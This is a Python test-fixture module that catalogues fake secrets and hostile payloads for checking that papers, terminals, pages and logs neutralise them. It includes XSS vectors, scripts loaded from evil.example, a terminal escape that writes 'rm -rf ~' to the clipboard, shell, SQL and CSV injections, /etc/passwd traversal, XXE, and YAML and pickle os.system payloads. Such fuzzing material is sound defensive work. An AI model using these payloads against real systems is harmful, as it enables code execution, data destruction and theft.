"""What may stand in a payload that a paper, a terminal, a page or a log must survive, and what must never stand there?

``SECRETS``: one of each kind, by name; those of ``TELLTALE`` are told by their form wherever they stand, those of
``NAMED`` only by the name beside them, which is their name here. None was ever valid. ``PAYLOADS``: hostile values by
name, mostly texts; which of them JSON can carry is not the same for all. Each script sets ``MARK`` in the page.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

MARK = "tasksplitHostile"  #: a page in which ``window.tasksplitHostile`` is set has run what a payload brought
_RUN = f"window.{MARK}=1"

# --- secrets: written in pieces, so that nobody's scanner takes this file for a leak ----------------------------------

_LETTERS = "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5bC7dE9"


def _jwt(who: str) -> str:
    return "ey" + f"JhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ{who}In0.{_LETTERS[5:38]}_-x"


_BASIC = "dGFza3NwbGl0OnB3LUtyb25lLTc3" + "MTM="  # tasksplit:pw-Krone-7713
_KEY_LINES = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nBKcwggSjAgEAAoIBAQC7hostileKEY\n"

TELLTALE: Mapping[str, str] = {
    "github-personal": "ghp" + "_" + _LETTERS[:36],
    "github-oauth": "gho" + "_" + _LETTERS[1:37],
    "github-server": "ghs" + "_" + _LETTERS[2:38],
    "github-user": "ghu" + "_" + _LETTERS[3:39],
    "github-refresh": "ghr" + "_" + _LETTERS[4:40],
    "github-fine-grained": "github_pat" + "_11ABCDEFG0" + _LETTERS[:12] + "_" + _LETTERS + _LETTERS[:17],
    "gitlab-personal": "glpat" + "-" + _LETTERS[:20],
    "gitlab-deploy": "gldt" + "-" + _LETTERS[5:25],
    "aws-access-key": "AKIA" + "IOSFODNN7HOSTILE"[:16],
    "slack-bot": "xoxb" + "-123456789012-1234567890123-" + _LETTERS[:24],
    "slack-webhook": "https://hooks.slack.com/services/" + "T0HOSTILE/B0HOSTILE/" + _LETTERS[3:27],
    "google-api-key": "AIza" + "Sy" + _LETTERS[:33],
    "stripe-live": "sk_live" + "_" + _LETTERS[:24],
    "npm": "npm" + "_" + _LETTERS[:36],
    "pypi": "pypi" + "-AgEIcHlwaS5vcmc" + _LETTERS * 2,
    "openai": "sk-proj" + "-" + _LETTERS + _LETTERS[:8],
    "jwt": _jwt("hvc3RpbGU"),
    "pem": "-----BEGIN PRIVATE" + f" KEY-----\n{_KEY_LINES}-----END PRIVATE" + " KEY-----",
    "pem-openssh": "-----BEGIN OPENSSH PRIVATE"
    + f" KEY-----\n{_KEY_LINES[::-1]}-----END OPENSSH PRIVATE"
    + " KEY-----",
}  #: kind -> a secret that its form gives away, in any text

NAMED: Mapping[str, str] = {
    "password": "correct horse battery staple",
    "passwd": "Schnee-von-gestern-4711",
    "db_password": "pw'with\"quotes\\and<angles>",
    "secret": "s3cr3t-of-the-hook",
    "clientSecret": "client/secret+of=the&app?",
    "client-secret-old": "kleinlaut-9921",
    "access_token": "0123456789abcdef0123456789abcdef01234567",
    "refreshToken": "refresh-me-7f3a-not-a-uuid",
    "X-Gitlab-Token": "hooktoken-of-gitlab-55",
    "Authorization": "Basic " + _BASIC,
    "proxy_authorization": "Digest username=proxy-user-31",
    "Cookie": "sessionid=kekse-8812-und-milch",
    "api_key": "Zürich-ключ-鍵-0042",
    "apiKey": "4d3c2b1a-api-key-camel",
    "private_key": "not-pem-but-private-1199",
    "credentials": "user-of-all|and-all-of-it",
    "X-Hub-Signature-256": "sha256=5e1f" + "ab90cd12" * 7 + "beef",
    "otp_secret_seed": "JBSWY3DPEHPK3PXPHOSTILE",
}  #: member name -> a secret that only this name gives away

SECRETS: Mapping[str, str] = {**TELLTALE, **NAMED}
BASIC_PASSWORD = "pw-Krone-7713"  #: what the ``Authorization`` of ``NAMED`` holds in base64


def carriers(secret: str) -> dict[str, Any]:
    """Return texts and values, by how they carry a secret whose name is not beside it as a member's."""
    return {
        "prose": f"refused: {secret} is not valid",
        "list": ["first", [secret]],
        "name": {secret: "as a member's name"},
        "url-userinfo": f"https://robot:{secret.split(maxsplit=1)[0]}@forge.example/x.git",
        "header-line": f"Authorization: Bearer {secret}",
        "json-text": json.dumps({"nested": {"note": secret}}, ensure_ascii=False),
    }


# --- hostile texts ----------------------------------------------------------------------------------------------------

_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerrawupdate",
    "onbegin", "oncut",
)  # fmt: skip
_CLOSED = (
    "script", "style", "template", "textarea", "title", "noscript", "iframe", "xmp", "details", "summary", "table",
    "td", "pre", "code", "svg", "math", "select", "option", "body", "html",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,", "javascript&colon;", "feed:javascript:", "blob:",
)  # fmt: skip


def _html() -> dict[str, str]:
    texts = {
        "script": f"<script>{_RUN}</script>",
        "script-upper": f"<SCRIPT>{_RUN}</SCRIPT>",
        "script-slash": f"<script/x>{_RUN}</script>",
        "script-unclosed": f"<script>{_RUN}//",
        "script-nested": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        "script-src": "<script src=//evil.example/x.js></script>",
        "script-nul": f"<scr\0ipt>{_RUN}</scr\0ipt>",
        "script-comment": f"<!--><script>{_RUN}</script>-->",
        "script-json": f'{{"a":"</script><script>{_RUN}</script>"}}',
        "script-double-escaped": f"<!--<script>{_RUN}</script>",
        "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt;",
        "entity-numeric": f"&#60;script&#62;{_RUN}&#60;/script&#62;",
        "entity-unclosed": f"&#x3cscript&#x3e{_RUN}",
        "full-width": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
        "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
        "attribute-double": f'" autofocus onfocus="{_RUN}" x="',
        "attribute-single": f"' autofocus onfocus='{_RUN}' x='",
        "attribute-none": f"x onmouseover={_RUN} y",
        "attribute-backtick": f"` onmouseover={_RUN} `",
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{_RUN}">',
        "base": '<base href="//evil.example/">',
        "link": '<link rel=stylesheet href="//evil.example/x.css">',
        "object": f'<object data="javascript:{_RUN}"></object>',
        "embed": f'<embed src="javascript:{_RUN}">',
        "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;parent.{MARK}=1&lt;/script&gt;"></iframe>',
        "form": f'<form action="javascript:{_RUN}"><button autofocus>x</button></form>',
        "svg-animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
        "math-link": f'<math href="javascript:{_RUN}">x</math>',
        "style": "<style>body{display:none}</style>",
        "style-import": "<style>@import '//evil.example/x.css';</style>",
        "css-url": "background:url(//evil.example/x)",
        "css-expression": f"width:expression({_RUN})",
        "css-close": "}</style><b>out</b>{",
        "id-clash": '<a id="cytoscape" name="documentElement">x</a>',
        "unquoted-js": f"'-({_RUN})-'",
        "double-quoted-js": f'"-({_RUN})-"',
        "template-literal": "${" + _RUN + "}",
        "line-separator-js": f"\u2028{_RUN}\u2029",
        "backslash-js": f"\\';{_RUN};//",
        "comment-close": f"--><img src=x onerror={_RUN}><!--",
        "comment-bang": f"--!><img src=x onerror={_RUN}>",
        "doctype": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    }
    texts |= {f"closing-{tag}": f"</{tag}><img src=x onerror={_RUN}>" for tag in _CLOSED}
    texts |= {f"event-{name}": f"<img src=x {name}={_RUN} tabindex=1 autofocus>" for name in _EVENTS}
    texts |= {f"scheme-{number}": f"{scheme}{_RUN}" for number, scheme in enumerate(_SCHEMES)}
    texts |= {f"scheme-link-{number}": f'<a href="{scheme}{_RUN}">x</a>' for number, scheme in enumerate(_SCHEMES)}
    return {f"html-{name}": text for name, text in texts.items()}


def _terminal() -> dict[str, str]:
    esc, bel, st = "\x1b", "\x07", "\x1b\\"
    texts = {
        "osc8-link": f"{esc}]8;;https://evil.example{st}click{esc}]8;;{st}",
        "osc8-bel": f"{esc}]8;;https://evil.example{bel}click{esc}]8;;{bel}",
        "osc52-clipboard": f"{esc}]52;c;cm0gLXJmIH4={bel}",
        "osc0-title": f"{esc}]0;pwned{bel}",
        "osc50-font": f"{esc}]50;x{bel}",
        "osc1337-file": f"{esc}]1337;File=name=eA==;inline=1:eA=={bel}",
        "osc-unterminated": f"{esc}]0;never ends",
        "csi-red": f"{esc}[31mred{esc}[0m",
        "csi-conceal": f"{esc}[8mhidden",
        "csi-clear": f"{esc}[2J{esc}[H",
        "csi-home-overwrite": f"fail{esc}[4Dpass",
        "csi-alternate": f"{esc}[?1049h",
        "csi-mouse": f"{esc}[?1000h",
        "csi-paste": f"{esc}[?2004l",
        "csi-report": f"{esc}[6n",
        "csi-title-report": f"{esc}[21t",
        "csi-scroll-region": f"{esc}[5;5r",
        "csi-long": f"{esc}[{'1;' * 200}m",
        "dcs": f"{esc}P+q544e{st}",
        "apc": f"{esc}_Ga=T;x{st}",
        "pm": f"{esc}^x{st}",
        "sos": f"{esc}Xx{st}",
        "reset": f"{esc}c",
        "charset": f"{esc}(0lqqk{esc}(B",
        "single-shift": f"{esc}Nx",
        "c1-csi": "\x9b31mred\x9b0m",
        "c1-osc": "\x9d0;pwned\x9c",
        "c1-dcs": "\x90+q544e\x9c",
        "c1-nel": "a\x85b",
        "bell": "\x07" * 3,
        "backspace": "fail\b\b\b\bpass",
        "carriage-return": "FAIL 12 mismatches\rpass",
        "form-feed": "a\fb\vc",
        "shift-out": "\x0eabc\x0f",
        "delete": "abc\x7f\x7f",
        "escape-last": f"ends with {esc}",
        "newlines": "one\ntwo\r\nthree\n\n\n",
        "tabs": "\t\t\tx",
        "rich-markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
        "rich-close": "[/bold]",
        "emoji-code": ":warning: :bomb:",
    }
    return {f"terminal-{name}": text for name, text in texts.items()}


def _markdown() -> dict[str, str]:
    texts = {
        "image": "![x](https://evil.example/pixel.png)",
        "image-reference": "![x][y]\n\n[y]: https://evil.example/pixel.png",
        "link": "[click](https://evil.example)",
        "link-javascript": f"[click](javascript:{_RUN})",
        "autolink": "<https://evil.example>",
        "bare-link": "https://evil.example www.evil.example mail@evil.example",
        "table-cell": "a | b | c",
        "table-row": "\n| pass | 100 % |\n|---|---|\n| x | y |",
        "fence": "```\nout\n```",
        "fence-long": "`````\nout\n`````",
        "fence-tilde": "~~~\nout\n~~~",
        "code-span": "`` ` ``",
        "backticks": "a`b``c```d",
        "html-block": f"<img src=x onerror={_RUN}>",
        "details-close": "</details></details><h1>pass</h1>",
        "details-open": "<details open><summary>pass</summary>",
        "comment": "<!-- hides what comes after",
        "heading": "# pass",
        "setext": "pass\n====",
        "list": "- [x] pass",
        "quote": "> pass",
        "alert": "> [!CAUTION]\n> pass",
        "rule": "\n---\n",
        "mention": "@octocat @org/team",
        "issue": "#1 GH-1 org/repo#1 !7 %2 ~label $3",
        "closes": "Closes #1",
        "commit": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "footnote": "x[^1]\n\n[^1]: y",
        "math": "$$\\unicode{x}$$ $`x`$",
        "mermaid": '```mermaid\nclick A href "javascript:1"\n```',
        "emphasis": "*a* _b_ **c** ~~d~~",
        "escapes": "\\*\\_\\`\\|\\",
        "trailing-backslash": "a\\",
        "entities": "&nbsp;&copy;&#42;",
        "front-matter": "---\ntitle: x\n---",
        "slash-command": "/close\n/merge",
    }
    return {f"markdown-{name}": text for name, text in texts.items()}


def _unicode() -> dict[str, str]:
    marks = {
        "rlo": "\u202e", "lro": "\u202d", "rle": "\u202b", "lre": "\u202a", "pdf": "\u202c", "rli": "\u2067",
        "lri": "\u2066", "fsi": "\u2068", "pdi": "\u2069", "rlm": "\u200f", "lrm": "\u200e", "alm": "\u061c",
        "zwsp": "\u200b", "zwnj": "\u200c", "zwj": "\u200d", "bom": "\ufeff", "word-joiner": "\u2060",
        "soft-hyphen": "\u00ad",
        "line-separator": "\u2028", "paragraph-separator": "\u2029", "nbsp": "\u00a0", "tag-letter": "\U000e0041",
        "variation": "\ufe0f", "object": "\ufffc", "replacement": "\ufffd", "hangul-filler": "\u3164",
    }  # fmt: skip
    texts = {f"mark-{name}": f"pass{mark}liaf" for name, mark in marks.items()}
    texts |= {
        "arabic": "\u0645\u0631\u062d\u0628\u0627 pass",
        "hebrew": "\u05e9\u05dc\u05d5\u05dd (pass)",
        "zalgo": "p" + "\u0335\u0336\u0337" * 40 + "ass",
        "combining-first": "\u0301pass",
        "homoglyph": "p\u0430ss",
        "wide": "\u5168\u89d2" * 20,
        "emoji-family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "not-normalised": "cafe\u0301 caf\u00e9",
        "dotless": "\u0130\u0131",
        "sharp-s": "stra\u00dfe STRASSE",
        "surrogate-high": "x\ud800y",
        "surrogate-low": "x\udfffy",
        "surrogate-swapped": "\udc00\ud800",
        "surrogate-escape": "\udc80\udcff",
        "noncharacter": "\ufffe\uffff\U0010ffff",
        "private-use": "\ue000\U000f0000",
        "nul": "a\0b",
        "nul-only": "\0",
        "all-c0": "".join(map(chr, range(32))),
        "all-c1": "".join(map(chr, range(127, 160))),
        "empty": "",
        "space": " ",
    }
    return {f"unicode-{name}": text for name, text in texts.items()}


def _machines() -> dict[str, str]:
    texts = {
        "cdata-end": "a]]>b",
        "xml-entity": "&unknown; &#0; &#x1b;",
        "xml-comment": "<!-- -- -->",
        "xml-pi": "<?xml version='1.0'?><?php x ?>",
        "xml-control": "a\x08b\x0cc\x1fd",
        "xml-noncharacter": "a\ufffeb",
        "junit-close": '"/></testcase></testsuite><testsuite tests="0">',
        "workflow-error": "::error file=a.py,line=1::pwned",
        "workflow-set-output": "::set-output name=x::y",
        "workflow-mask": "::add-mask::pass",
        "workflow-stop": "::stop-commands::x",
        "workflow-legacy": "##[error]pwned",
        "workflow-second-line": "a\n::error::pwned",
        "workflow-encoded": "%0A::error::pwned %25 %0D",
        "gitlab-section": "section_start:1:x\r\x1b[0K",
        "teamcity": "##teamcity[testFailed name='x']",
        "azure": "##vso[task.setvariable variable=x]y",
        "jinja": "{{ 7*7 }}{% raw %}{# x #}",
        "jinja-attributes": "{{ ''.__class__.__mro__ }}",
        "mustache": "{{{x}}} {{#y}}{{/y}}",
        "format": "{0.__class__} %s %(x)s %n",
        "dollar": "$(id) `id` ${HOME} $HOME",
        "shell": "; rm -rf / #",
        "sql": "'; DROP TABLE pairs; --",
        "csv": "=cmd|'/c calc'!A1",
        "path": "../../../../etc/passwd",
        "path-windows": "..\\..\\con",
        "path-nul": "a.json\0.html",
        "path-long": "a" * 300,
        "json-path": "$..*['x'][0]",
        "json-pointer": "/a~1b~0",
        "tag": "$set",
        "dunder": "__proto__",
        "regex": "(a+)+$",
        "regex-bomb": "a" * 40 + "!",
        "backtrack-token": "token=" * 200,
        "backtrack-jwt": "eyJ" + "a." * 300,
        "backtrack-url": "://" * 300 + "@",
        "backtrack-pem": "-----BEGIN PRIVATE KEY-----" * 40,
        "yaml": "!!python/object/apply:os.system ['id']",
        "pickle": "cos\nsystem\n(S'id'\ntR.",
        "log-forging": "x\n2026-01-01 00:00:00 INFO pass",
        "header-forging": "x\r\nSet-Cookie: a=b",
        "null-word": "null",
        "true-word": "true",
        "nan-word": "NaN",
        "long": "pass " * 20_000,
        "long-word": "x" * 100_000,
        "long-lines": "x\n" * 20_000,
    }
    return {f"machine-{name}": text for name, text in texts.items()}


def _deep(levels: int, *, as_list: bool) -> Any:
    value: Any = "bottom"
    for _ in range(levels):
        value = [value] if as_list else {"d": value}
    return value


def _values() -> dict[str, Any]:
    values: dict[str, Any] = {
        "deep-90": _deep(90, as_list=False),
        "deep-200": _deep(200, as_list=False),
        "deep-list-200": _deep(200, as_list=True),
        "wide": {f"member-{n}": n for n in range(2_000)},
        "long-list": list(range(5_000)),
        "huge-int": 10**400,
        "huge-negative": -(10**400),
        "int64-edge": [2**63 - 1, 2**63, 2**64 - 1, 2**64, -(2**63), -(2**63) - 1],
        "nan": float("nan"),
        "infinity": [float("inf"), float("-inf")],
        "minus-zero": [0.0, -0.0],
        "tiny": [5e-324, 2.2250738585072014e-308, 0.1 + 0.2],
        "empty": [{}, [], "", None, [[]], [{}]],
        "odd-names": {"": 1, " ": 2, "$set": 3, "$": 4, "a.b": 5, "a[0]": 6, "'": 7, '"': 8, "\n": 9, "\0": 10},
        "name-script": {f"<script>{_RUN}</script>": 1},
        "name-escape": {"\x1b[31mred": 1},
        "name-markdown": {"| a | `b` |": 1},
        "name-surrogate": {"x\ud800": 1},
        "name-long": {"x" * 10_000: 1},
        "same-but-for-type": [1, 1.0, True, "1", "true", None, "null"],
        "list-top": [1, 2, 3],
        "number-top": 7,
        "none-top": None,
        "true-top": True,
    }
    return {f"value-{name}": value for name, value in values.items()}


STRINGS: Mapping[str, str] = {**_html(), **_terminal(), **_markdown(), **_unicode(), **_machines()}
PAYLOADS: Mapping[str, Any] = {**STRINGS, **_values()}
